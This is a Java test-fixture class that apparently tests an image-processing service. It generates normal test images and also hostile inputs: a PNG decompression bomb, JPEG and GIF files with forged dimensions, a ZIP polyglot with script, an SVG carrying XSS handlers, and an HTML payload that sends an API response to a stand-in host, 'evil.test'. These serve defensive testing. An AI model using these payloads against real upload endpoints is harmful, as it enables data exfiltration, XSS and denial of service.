package io.tilegate.images;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;
import javax.imageio.stream.MemoryCacheImageOutputStream;

/**
 * Image files made by the tests with ImageIO, and the hostile ones built byte by byte: nothing
 * is checked in. Each photo is split into four coloured quarters, so a test can tell a crop, a
 * turn or a mirror from the pixels it gets back.
 */
public final class TestImages {

	public static final Color TOP_LEFT = new Color(220, 30, 30);

	public static final Color TOP_RIGHT = new Color(30, 200, 30);

	public static final Color BOTTOM_LEFT = new Color(30, 30, 220);

	public static final Color BOTTOM_RIGHT = new Color(240, 220, 30);

	/** A GPS latitude written into the test's EXIF: 48° 51' 29.6" N, as a rational of these parts. */
	public static final int GPS_SECONDS_NUMERATOR = 296;

	private TestImages() {
	}

	/** Four quarters in {@link #TOP_LEFT} … {@link #BOTTOM_RIGHT}. */
	public static BufferedImage quarters(int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setColor(TOP_LEFT);
		graphics.fillRect(0, 0, width / 2, height / 2);
		graphics.setColor(TOP_RIGHT);
		graphics.fillRect(width / 2, 0, width - width / 2, height / 2);
		graphics.setColor(BOTTOM_LEFT);
		graphics.fillRect(0, height / 2, width / 2, height - height / 2);
		graphics.setColor(BOTTOM_RIGHT);
		graphics.fillRect(width / 2, height / 2, width - width / 2, height - height / 2);
		graphics.dispose();
		return image;
	}

	public static byte[] jpeg(int width, int height) {
		return write(quarters(width, height), "jpeg");
	}

	public static byte[] png(int width, int height) {
		return write(quarters(width, height), "png");
	}

	public static byte[] gif(int width, int height) {
		return write(quarters(width, height), "gif");
	}

	/** A PNG whose left half is fully transparent. */
	public static byte[] transparentPng(int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_ARGB);
		Graphics2D graphics = image.createGraphics();
		graphics.setColor(TOP_RIGHT);
		graphics.fillRect(width / 2, 0, width - width / 2, height);
		graphics.dispose();
		return write(image, "png");
	}

	public static byte[] write(BufferedImage image, String format) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try {
			if (!ImageIO.write(image, format, bytes)) {
				throw new IllegalStateException("No ImageIO writer for " + format);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	public static BufferedImage read(byte[] bytes) {
		try {
			BufferedImage image = ImageIO.read(new java.io.ByteArrayInputStream(bytes));
			if (image == null) {
				throw new IllegalStateException("Not an image ImageIO reads");
			}
			return image;
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A GIF of two frames: the first all {@link #TOP_LEFT}, the second all {@link #BOTTOM_LEFT}. */
	public static byte[] animatedGif(int size) {
		ImageWriter writer = ImageIO.getImageWritersByFormatName("gif").next();
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ImageOutputStream output = new MemoryCacheImageOutputStream(bytes)) {
			writer.setOutput(output);
			writer.prepareWriteSequence(null);
			for (Color color : new Color[] { TOP_LEFT, BOTTOM_LEFT }) {
				BufferedImage frame = new BufferedImage(size, size, BufferedImage.TYPE_INT_RGB);
				Graphics2D graphics = frame.createGraphics();
				graphics.setColor(color);
				graphics.fillRect(0, 0, size, size);
				graphics.dispose();
				writer.writeToSequence(new IIOImage(frame, null, null), null);
			}
			writer.endWriteSequence();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		finally {
			writer.dispose();
		}
		return bytes.toByteArray();
	}

	/**
	 * A JPEG of four CMYK channels, as print workflows export photos: 100% cyan on the left,
	 * 100% yellow on the right.
	 */
	public static byte[] cmykJpeg(int width, int height) {
		java.awt.image.WritableRaster cmyk = java.awt.image.Raster.createInterleavedRaster(
				java.awt.image.DataBuffer.TYPE_BYTE, width, height, 4, null);
		for (int y = 0; y < height; y++) {
			for (int x = 0; x < width; x++) {
				boolean left = x < width / 2;
				// Adobe's CMYK JPEGs store the channels inverted: 0 is full ink.
				cmyk.setPixel(x, y, new int[] { left ? 0 : 255, 255, left ? 255 : 0, 255 });
			}
		}
		ImageWriter writer = jdkJpegWriter();
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ImageOutputStream output = new MemoryCacheImageOutputStream(bytes)) {
			writer.setOutput(output);
			writer.write(null, new IIOImage(cmyk, null, null), null);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		finally {
			writer.dispose();
		}
		// The JDK writes the four channels with no word of what they are; Adobe's APP14 segment,
		// transform 0, says CMYK, as Photoshop's files do.
		byte[] channels = bytes.toByteArray();
		ByteBuffer adobe = ByteBuffer.allocate(channels.length + 16);
		adobe.put(channels, 0, 2);
		adobe.put((byte) 0xFF).put((byte) 0xEE).putShort((short) 14).put("Adobe".getBytes(StandardCharsets.US_ASCII));
		adobe.putShort((short) 100).putShort((short) 0).putShort((short) 0).put((byte) 0);
		adobe.put(channels, 2, channels.length - 2);
		return adobe.array();
	}

	/** A progressive JPEG of {@link #quarters}, as web tools export photos. */
	public static byte[] progressiveJpeg(int width, int height) {
		ImageWriter writer = jdkJpegWriter();
		javax.imageio.ImageWriteParam param = writer.getDefaultWriteParam();
		param.setProgressiveMode(javax.imageio.ImageWriteParam.MODE_DEFAULT);
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ImageOutputStream output = new MemoryCacheImageOutputStream(bytes)) {
			writer.setOutput(output);
			writer.write(null, new IIOImage(quarters(width, height), null, null), param);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		finally {
			writer.dispose();
		}
		return bytes.toByteArray();
	}

	private static ImageWriter jdkJpegWriter() {
		java.util.Iterator<ImageWriter> writers = ImageIO.getImageWritersByFormatName("jpeg");
		while (writers.hasNext()) {
			ImageWriter writer = writers.next();
			if (writer.getClass().getName().startsWith("com.sun.")) {
				return writer;
			}
			writer.dispose();
		}
		throw new IllegalStateException("No JDK JPEG writer");
	}

	/**
	 * The JPEG with an EXIF segment (APP1) put right after its start marker, written by hand as
	 * a phone writes one: a camera make, the orientation given, and a GPS position.
	 */
	public static byte[] withExif(byte[] jpeg, int orientation) {
		byte[] make = "TestPhone\0".getBytes(StandardCharsets.US_ASCII);
		// TIFF, little-endian: header, IFD0 (Make, Orientation, GPS pointer), GPS IFD, then values.
		int ifd0 = 8;
		int ifd0Entries = 3;
		int gpsIfd = ifd0 + 2 + ifd0Entries * 12 + 4;
		int gpsEntries = 2;
		int makeOffset = gpsIfd + 2 + gpsEntries * 12 + 4;
		int latitudeOffset = makeOffset + make.length;
		ByteBuffer tiff = ByteBuffer.allocate(latitudeOffset + 24).order(ByteOrder.LITTLE_ENDIAN);
		tiff.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(ifd0);
		tiff.putShort((short) ifd0Entries);
		entry(tiff, 0x010F, 2, make.length, makeOffset); // Make, ASCII
		tiff.putShort((short) 0x0112).putShort((short) 3).putInt(1).putShort((short) orientation).putShort((short) 0);
		entry(tiff, 0x8825, 4, 1, gpsIfd); // GPSInfo IFD pointer, LONG
		tiff.putInt(0);
		tiff.putShort((short) gpsEntries);
		tiff.putShort((short) 0x0001).putShort((short) 2).putInt(2).put((byte) 'N').put((byte) 0).putShort((short) 0);
		entry(tiff, 0x0002, 5, 3, latitudeOffset); // GPSLatitude, 3 RATIONALs
		tiff.putInt(0);
		tiff.put(make);
		tiff.putInt(48).putInt(1).putInt(51).putInt(1).putInt(GPS_SECONDS_NUMERATOR).putInt(10);
		byte[] exif = ByteBuffer.allocate(6 + tiff.capacity())
			.put("Exif\0\0".getBytes(StandardCharsets.US_ASCII))
			.put(tiff.array())
			.array();
		ByteBuffer out = ByteBuffer.allocate(jpeg.length + 4 + exif.length).order(ByteOrder.BIG_ENDIAN);
		out.put(jpeg, 0, 2); // SOI
		out.put((byte) 0xFF).put((byte) 0xE1).putShort((short) (exif.length + 2)).put(exif);
		out.put(jpeg, 2, jpeg.length - 2);
		return out.array();
	}

	private static void entry(ByteBuffer tiff, int tag, int type, int count, int valueOffset) {
		tiff.putShort((short) tag).putShort((short) type).putInt(count).putInt(valueOffset);
	}

	/**
	 * A PNG that declares {@code width} × {@code height} RGB pixels, all zero, of which it
	 * holds only the first megabyte of rows, deflated to a few kilobytes: a decoder that
	 * believed the header would allocate width × height × 3 bytes.
	 */
	public static byte[] pngBomb(int width, int height) {
		return blackPng(width, height, 1024 * 1024);
	}

	/** A complete black PNG, deflated as it is written: a 40-megapixel one is a hundred kilobytes. */
	public static byte[] blackPng(int width, int height) {
		return blackPng(width, height, (long) height * (width * 3L + 1));
	}

	private static byte[] blackPng(int width, int height, long rawBytes) {
		ByteArrayOutputStream png = new ByteArrayOutputStream();
		png.writeBytes(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n' });
		ByteBuffer header = ByteBuffer.allocate(13).putInt(width).putInt(height);
		header.put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
		chunk(png, "IHDR", header.array());
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
		byte[] zeros = new byte[1024 * 1024];
		byte[] buffer = new byte[64 * 1024];
		ByteArrayOutputStream idat = new ByteArrayOutputStream();
		for (long left = rawBytes; left > 0; left -= zeros.length) {
			deflater.setInput(zeros, 0, (int) Math.min(zeros.length, left));
			while (!deflater.needsInput()) {
				idat.write(buffer, 0, deflater.deflate(buffer));
			}
		}
		deflater.finish();
		while (!deflater.finished()) {
			idat.write(buffer, 0, deflater.deflate(buffer));
		}
		deflater.end();
		chunk(png, "IDAT", idat.toByteArray());
		chunk(png, "IEND", new byte[0]);
		return png.toByteArray();
	}

	/**
	 * The JPEG with the size in its frame header (SOF0 or SOF2) rewritten: the pixels stay those of the
	 * small image, and a decoder that believed the header would allocate for the new size.
	 */
	public static byte[] jpegDeclaring(byte[] jpeg, int width, int height) {
		byte[] forged = jpeg.clone();
		for (int i = 2; i + 9 < forged.length; i++) {
			int marker = forged[i + 1] & 0xFF;
			if ((forged[i] & 0xFF) == 0xFF && (marker == 0xC0 || marker == 0xC2)) {
				ByteBuffer.wrap(forged, i + 5, 4).putShort((short) height).putShort((short) width);
				return forged;
			}
		}
		throw new IllegalArgumentException("No baseline or progressive frame header in this JPEG");
	}

	/** A one-frame GIF whose frame declares {@code width} × {@code height} pixels and holds a few. */
	public static byte[] gifDeclaring(int width, int height) {
		ByteBuffer gif = ByteBuffer.allocate(64).order(ByteOrder.LITTLE_ENDIAN);
		gif.put("GIF89a".getBytes(StandardCharsets.US_ASCII)).putShort((short) width).putShort((short) height);
		gif.put((byte) 0x80).put((byte) 0).put((byte) 0); // a global table of two colours
		gif.put(new byte[] { 0, 0, 0, (byte) 255, (byte) 255, (byte) 255 });
		gif.put((byte) 0x2C).putShort((short) 0).putShort((short) 0).putShort((short) width).putShort((short) height);
		gif.put((byte) 0);
		gif.put((byte) 2).put((byte) 2).put((byte) 0x4C).put((byte) 0x01).put((byte) 0); // LZW: clear, 0, end
		gif.put((byte) 0x3B);
		return Arrays.copyOf(gif.array(), gif.position());
	}

	private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
		byte[] name = type.getBytes(StandardCharsets.US_ASCII);
		png.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
		png.writeBytes(name);
		png.writeBytes(data);
		CRC32 crc = new CRC32();
		crc.update(name);
		crc.update(data);
		png.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
	}

	/** A ZIP archive holding one HTML page: what a "polyglot" hides after an image's end. */
	public static byte[] zip() {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.putNextEntry(new ZipEntry("payload.html"));
			zip.write("<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8));
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	public static byte[] concat(byte[] first, byte[] second) {
		return ByteBuffer.allocate(first.length + second.length).put(first).put(second).array();
	}

	public static final String SVG = """
			<?xml version="1.0" encoding="UTF-8"?>
			<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.domain)">
			  <circle cx="50" cy="50" r="40" fill="red"/><script>alert(1)</script>
			</svg>
			""";

	public static final String HTML = """
			<!DOCTYPE html>
			<html><head><title>photo.png</title></head>
			<body><script>fetch('/api/v1/users').then(r => r.text()).then(t => location = 'https://evil.test/?' + t)</script></body></html>
			""";

	/** Whether {@code needle} occurs anywhere in {@code haystack}. */
	public static boolean contains(byte[] haystack, byte[] needle) {
		outer: for (int i = 0; i <= haystack.length - needle.length; i++) {
			for (int j = 0; j < needle.length; j++) {
				if (haystack[i + j] != needle[j]) {
					continue outer;
				}
			}
			return true;
		}
		return false;
	}

}
